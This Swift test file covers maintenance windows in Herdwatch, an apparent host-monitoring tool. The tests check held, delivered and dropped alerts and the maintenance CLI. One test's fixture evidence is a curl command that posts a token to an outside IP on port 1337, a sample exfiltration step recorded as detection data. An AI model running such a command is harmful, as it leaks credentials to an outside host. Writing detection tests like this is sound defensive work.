import Foundation
import LibPQ
import Logging
import PostgresFixture
import Storage
import Testing

@testable import ServerRuntime

@Suite("Maintenance windows hold alerts")
struct MaintenanceWindowTests {
    @Test func aWindowHoldsAlertsThenReleasesThem() async throws {
        try await MigratedDatabase.with { database in
            let connection = try await database.connect()
            let (windowID, closedFinding) = try await connection.withSession { session in
                let hosts = try AlertFixtures.fleet(session)
                let until = PostgresTimestamp(Date().addingTimeInterval(3600))
                let id = try MaintenanceWindowStore(session: session).add(.role("web"), until: until, note: "upgrade", actor: "ops")
                // Held: web only. Not held: a finding with a db host too.
                try AlertFixtures.sighting(session, subject: "/tmp/held", hostID: hosts["web-01"]!, host: "web-01")
                let closed = try AlertFixtures.sighting(session, subject: "/tmp/closed", hostID: hosts["web-02"]!, host: "web-02")
                try AlertFixtures.sighting(session, role: "db", subject: "/tmp/db", hostID: hosts["db-01"]!, host: "db-01")
                return (id, closed.findingID)
            }
            let path = AlertFixtures.temporaryPath("held.jsonl")
            defer { unlink(path) }
            let dispatcher = AlertDispatcher(sinks: [JSONLinesSink(path: path)], connection: connection, logger: Logger(label: "test"))
            let during = try await dispatcher.runOnce()
            #expect(during.first?.delivered == 1)
            #expect(during.first?.held == 2)
            #expect(try String(contentsOfFile: path, encoding: .utf8).contains("/tmp/db"))

            // Resolved during the window: its alert is dropped when the window ends.
            try await connection.query("UPDATE herdwatch.findings SET status = 'resolved' WHERE id = $1", [.int64(closedFinding)])
            let ended = try await connection.withSession { try MaintenanceWindowStore(session: $0).end(id: windowID) }
            #expect(ended)
            let after = try await dispatcher.runOnce()
            #expect(after.first?.delivered == 1)
            #expect(after.first?.dropped == 1)
            #expect(after.first?.held == 0)
            let lines = try String(contentsOfFile: path, encoding: .utf8).split(separator: "\n")
            #expect(lines.count == 2)
            #expect(lines[1].contains("/tmp/held"))
            // Findings themselves were never held.
            let findings = try await connection.query("SELECT count(*) FROM herdwatch.findings")
            #expect(try findings.first?.decode(Int.self, at: 0) == 3)
        }
    }

    @Test func aHostWindowCoversOnlyThatHost() async throws {
        try await MigratedDatabase.with { database in
            let connection = try await database.connect()
            try await connection.withSession { session in
                let hosts = try AlertFixtures.fleet(session)
                let until = PostgresTimestamp(Date().addingTimeInterval(3600))
                _ = try MaintenanceWindowStore(session: session).add(.host("web-01"), until: until, note: nil, actor: "ops")
                try AlertFixtures.sighting(session, subject: "/tmp/one", hostID: hosts["web-01"]!, host: "web-01")
                try AlertFixtures.sighting(session, subject: "/tmp/two", hostID: hosts["web-02"]!, host: "web-02")
            }
            let pending = try await connection.withSession { try AlertOutboxStore(session: $0).pending(sink: "jsonl", limit: 10) }
            #expect(pending.map(\.hold) == [.held, .none])
            #expect(pending.first?.evidence?.destination == "203.0.113.66:1337")
            #expect(pending.first?.evidence?.argv == ["curl", "-d", "token=<redacted>", "http://203.0.113.66:1337/"])
        }
    }

    @Test func maintenanceCommands() async throws {
        try await MigratedDatabase.with { database in
            let connection = try await database.connect()
            try await connection.withSession { _ = try AlertFixtures.fleet($0) }
            let url = database.conninfo
            let added = try Herdwatch.run("maintenance", "add", "--role", "web", "--until", "2h", "--note", "kernel upgrade",
                                          "--actor", "carol", "--database-url", url)
            #expect(added.exitCode == 0, "\(added.standardError)")
            #expect(added.standardOutput.hasPrefix("maintenance window 1 open until "))
            let host = try Herdwatch.run("maintenance", "add", "--host", "db-01", "--until", "2099-01-01T00:00:00Z", "--database-url", url)
            #expect(host.exitCode == 0, "\(host.standardError)")
            let list = try Herdwatch.run("maintenance", "list", "--database-url", url).standardOutput
            #expect(list.contains("role web"))
            #expect(list.contains("host db-01"))
            #expect(list.contains("carol"))
            #expect(list.contains("kernel upgrade"))
            #expect(try Herdwatch.run("maintenance", "end", "1", "--database-url", url).standardOutput.contains("ended"))
            #expect(!(try Herdwatch.run("maintenance", "list", "--database-url", url).standardOutput.contains("role web")))
            #expect(try Herdwatch.run("maintenance", "list", "--all", "--database-url", url).standardOutput.contains("ended"))
            #expect(try Herdwatch.run("maintenance", "end", "1", "--database-url", url).exitCode == 1)

            let unknown = try Herdwatch.run("maintenance", "add", "--host", "nope-01", "--until", "1h", "--database-url", url)
            #expect(unknown.exitCode == 1)
            #expect(unknown.standardError.contains("unknown host"))
            let both = try Herdwatch.run("maintenance", "add", "--host", "db-01", "--role", "web", "--until", "1h", "--database-url", url)
            #expect(both.exitCode == 64)
        }
    }
}
